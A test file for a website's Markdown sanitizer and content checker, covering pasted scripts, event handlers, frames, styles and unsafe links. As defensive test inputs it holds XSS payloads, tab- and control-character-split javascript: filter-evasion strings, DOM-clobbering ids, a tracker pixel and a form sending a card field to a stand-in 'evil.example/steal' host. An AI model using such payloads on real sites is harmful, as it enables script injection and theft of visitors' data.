import { markdownToHtml } from 'satteri';
import { satteri } from '@astrojs/markdown-satteri';
import { describe, expect, it } from 'vitest';
import { bodyProblems } from '#/content-check/body.ts';
import { textProblems } from '#/content-check/markup.ts';
import { sitePages } from '#/content-check/text-rules.ts';
import { markdownProcessing } from '#/lib/markdown-processing.ts';
import { sanitizePlugin } from '#/lib/markdown-sanitize.ts';

/** A body as the site renders it: raw HTML parsed, then kept as far as the allow-list allows. */
const rendered = async (markdown: string) =>
  (await markdownToHtml(markdown, { hastPlugins: [sanitizePlugin], features: { rawHtml: true } })).html;

const file = 'src/content/blog/post.md';
const links = {
  siteUrl: 'https://www.example.com',
  page: '/blog/post',
  pages: sitePages({ pages: ['services'], services: [], clinics: [], blog: [] }),
  unpublished: [],
};
/** The check's problems for a body that starts on line 5 of its file (after the front matter). */
const problems = (markdown: string) =>
  bodyProblems(file, { text: markdown, firstLine: 5 }, { tokens: [], unset: [], links });

/** Each construct that can run or load something, written as people paste it, and the words its message starts with. */
const refused: [string, string, RegExp][] = [
  ['a script', 'Intro.\n\n<script>alert("hi")</script>\n', /^<script> is pasted code/],
  [
    'an event handler',
    'A photo <img src="x.jpg" onerror="alert(1)"> here.',
    /^onerror="alert\(1\)" in <img> is pasted code/,
  ],
  ['a javascript: link (Markdown)', '[Click](javascript:alert(1))', /^the address "javascript:alert\(1\)" is code/],
  [
    'a javascript: link (HTML)',
    '<a href="javascript:alert(1)">Click</a>',
    /^the address "javascript:alert\(1\)" is code/,
  ],
  ['a data: picture', '![A dot](data:image/png;base64,iVBORw0KGgo=)', /^the address "data:image\/png/],
  ['a form', '<form action="https://evil.example/steal"><input name="card"></form>', /^<form> is not allowed/],
  [
    'a frame',
    '<iframe src="https://www.example.org/widget"></iframe>',
    /^<iframe> from www\.example\.org is pasted embed code/,
  ],
  ['an object', '<object data="movie.swf"></object>', /^<object> is not allowed/],
  ['an embed', '<embed src="movie.swf">', /^<embed> is not allowed/],
  ['a style element', '<style>body { display: none }</style>', /^<style> is not allowed/],
  [
    'a style attribute',
    '<p style="position:fixed;inset:0">Look</p>',
    /^style="position:fixed;inset:0" in <p> is not allowed/,
  ],
];

describe('the allow-list keeps no live code from a body', () => {
  it.each(refused)('%s is removed from the page', async (_name, markdown) => {
    const html = await rendered(markdown);
    expect(html).not.toMatch(/<(script|form|iframe|object|embed|style)\b|\son\w+=|javascript:|data:|style=/i);
  });

  it('keeps the harmless inline markup people write', async () => {
    const markdown =
      'Some <b>bold</b>, <em>stress</em>, H<sub>2</sub>O, x<sup>2</sup>, <abbr title="National Health Service">NHS</abbr>, <mark>note</mark>,<br>' +
      '[a page](/services), [mail](mailto:a@b.co), [call](tel:+441632960000) and [NHS](https://www.nhs.uk).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n';
    const html = await rendered(markdown);
    for (const kept of [
      '<b>bold</b>',
      '<em>stress</em>',
      '<sub>2</sub>',
      '<sup>2</sup>',
      '<abbr title="National Health Service">NHS</abbr>',
      '<mark>note</mark>',
      '<br>',
      'href="/services"',
      'href="mailto:a@b.co"',
      'href="tel:+441632960000"',
      'href="https://www.nhs.uk"',
      '<td>1</td>',
    ])
      expect(html).toContain(kept);
  });
});

describe('the content check names each refused construct, its line and what to do', () => {
  it.each(refused)('%s', async (_name, markdown, message) => {
    const [first] = await problems(markdown);
    expect(first?.message).toMatch(message);
    const lineInBody = markdown.split('\n').findIndex((line) => /[<![]/.test(line));
    expect(first).toMatchObject({ file, field: 'text', line: 5 + lineInBody });
  });

  it('points to the line inside a multi-line block of pasted code', async () => {
    const [problem] = await problems(
      '<div class="embed">\n  <p>Watch</p>\n  <script src="https://cdn.example/x.js"></script>\n</div>\n',
    );
    expect(problem).toMatchObject({ line: 5 });
    const lines = (await problems('<div>\n<p>Watch</p>\n<script>x()</script>\n</div>\n')).map(({ line }) => line);
    expect(lines).toEqual([7]);
  });

  it('turns a pasted YouTube player into the way to do it: its link on a line of its own', async () => {
    const [problem] = await problems(
      '<iframe width="560" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>',
    );
    expect(problem?.message).toMatch(/^a pasted YouTube player \(<iframe>\) cannot be shown/);
    expect(problem?.message).toContain('on a line of its own (https://www.youtube.com/watch?v=dQw4w9WgXcQ)');
  });

  it('refuses a link on its own line to a video host the site cannot play, naming the ones it can', async () => {
    const [problem] = await problems('Intro.\n\nhttps://www.dailymotion.com/video/x8abc12\n');
    expect(problem).toMatchObject({ line: 7 });
    expect(problem?.message).toMatch(/is a video the site cannot play\. Videos play from YouTube or Vimeo only/);
    expect(await problems('See [this video](https://www.dailymotion.com/video/x8abc12) too.')).toEqual([]);
  });

  it('has nothing to say about plain text, links, pictures and a supported video', async () => {
    expect(
      await problems(
        'Some *text* with <b>bold</b> and [a link](https://www.nhs.uk).\n\n![A view](../../assets/art/hero.png)\n\nhttps://youtu.be/dQw4w9WgXcQ\n\n[A talk](https://vimeo.com/76979871)\n',
      ),
    ).toEqual([]);
  });
});

describe('text fields (titles, YAML text, settings) are checked with the same allow-list', () => {
  it('refuses pasted code and code addresses', () => {
    expect(textProblems('Hello <script>alert(1)</script>')[0]).toMatch(/^<script> is pasted code/);
    expect(textProblems('<img src=x onerror=alert(1)>')[0]).toMatch(/^onerror="alert\(1\)" in <img>/);
    expect(textProblems('javascript:alert(1)')[0]).toMatch(/^the address "javascript:alert\(1\)" is code/);
  });

  it('leaves ordinary text alone, ampersands and angle brackets included', () => {
    for (const text of [
      "O'Brien & Daughters",
      'Ages 5 < 11',
      'I <3 calm',
      'https://www.nhs.uk',
      'Sleep: a guide',
      'Data: what I keep and why',
    ]) {
      expect(textProblems(text), text).toEqual([]);
    }
  });
});

/** A body as the build renders it: the whole pipeline of astro.config.ts, heading ids included. */
const built = async (markdown: string) => {
  const build = await satteri(markdownProcessing({ heldBack: () => [] })).createRenderer({ syntaxHighlight: false });
  return (await build.render(markdown, {})).code;
};

describe('her ids and names cannot shadow the page (issue 32)', () => {
  it('prefixes a pasted name or id, as GitHub does', async () => {
    const html = await built('A picture <img name="querySelectorAll" id="getElementById" src="x.jpg" alt="x">.\n');
    expect(html).toContain('name="user-content-querySelectorAll"');
    expect(html).toContain('id="user-content-getElementById"');
    expect(html).not.toMatch(/(name|id)="(querySelectorAll|getElementById)"/);
  });

  it('keeps her in-page links to her own ids, to her headings and to footnotes working', async () => {
    const html = await built(
      '[Jump](#prices) to [the heading](#how-it-works).[^1]\n\n<h2 id="prices">Prices</h2>\n\n## How it works\n\n[^1]: A source.\n',
    );
    expect(html).toContain('<a href="#user-content-prices">Jump</a>');
    expect(html).toContain('<h2 id="user-content-prices">Prices</h2>');
    expect(html).toContain('<a href="#how-it-works">the heading</a>');
    expect(html).toContain('<h2 id="how-it-works">How it works</h2>');
    expect(html).toContain('href="#user-content-fn-1" id="user-content-fnref-1"');
    expect(html).toContain('<li id="user-content-fn-1">');
    expect(html).toContain('href="#user-content-fnref-1"');
  });

  it('is not a problem the content check reports', async () => {
    expect(
      await problems('<img name="querySelectorAll" src="x.jpg" alt="x">\n\n<h2 id="prices">Prices</h2>\n'),
    ).toEqual([]);
  });
});

describe('addresses in her text are read as browsers read them (issue 32)', () => {
  const CODE = 'is code or inline data, not a web address';
  const cases: [string, string, string][] = [
    [
      'a tab inside javascript:',
      '<a href="java\tscript:alert(1)">Click</a>',
      `the address "java\\tscript:alert(1)" ${CODE}`,
    ],
    ['an encoded tab', '<a href="java&#9;script:alert(1)">Click</a>', `the address "java\\tscript:alert(1)" ${CODE}`],
    [
      'a newline inside javascript:',
      '<a href="java\nscript:alert(1)">Click</a>',
      `the address "java\\nscript:alert(1)" ${CODE}`,
    ],
    [
      'a control character before javascript:',
      '<a href="&#1;javascript:alert(1)">Click</a>',
      `the address "\\u0001javascript:alert(1)" ${CODE}`,
    ],
    ['a data: link', '<a href="data:text/html,hi">Click</a>', `the address "data:text/html,hi" ${CODE}`],
    ['an http: link', '[The NHS](http://www.nhs.uk)', 'the address "http://www.nhs.uk" is not secure (http://)'],
    [
      'a file: link',
      '<a href="file:///C:/notes.html">Notes</a>',
      'the address "file:///C:/notes.html" is not a web address',
    ],
    [
      'an ftp: link',
      '[Files](ftp://files.example.co.uk/a)',
      'the address "ftp://files.example.co.uk/a" is not a web address',
    ],
    [
      'a picture from another site, as HTML',
      '<img src="https://tracker.example.com/p.gif" alt="A dot">',
      'the picture https://tracker.example.com/p.gif is on another website',
    ],
    [
      'a picture size from another site',
      '<picture><source srcset="https://tracker.example.com/p.gif 2x"><img src="x.jpg" alt="A dot"></picture>',
      'the picture https://tracker.example.com/p.gif is on another website',
    ],
  ];

  it.each(cases)('%s is refused in one line naming the file and field', async (_name, markdown, message) => {
    const found = await problems(markdown);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ file, field: 'text', line: 5 });
    expect(found[0]?.message.startsWith(message), found[0]?.message).toBe(true);
  });

  it('the page keeps none of those links', async () => {
    const links = cases.filter(([, markdown]) => !/^<(img|picture)/.test(markdown));
    expect(await rendered(links.map(([, markdown]) => markdown).join('\n\n'))).not.toContain('href=');
  });

  it('keeps links to the site, to https pages, mail and phone', async () => {
    expect(
      await problems(
        '[a](/services), [b](#part), [c](https://www.nhs.uk), [d](mailto:a@b.co.uk), [e](tel:+441632960000)',
      ),
    ).toEqual([]);
  });

  it('a text field that is a split javascript: address is refused; a heading with a colon is not', () => {
    expect(textProblems('java\tscript:alert(1)')).toEqual([
      expect.stringMatching(/^the address "java\\tscript:alert\(1\)" is code/),
    ]);
    expect(textProblems('Data: what I keep and why')).toEqual([]);
  });
});
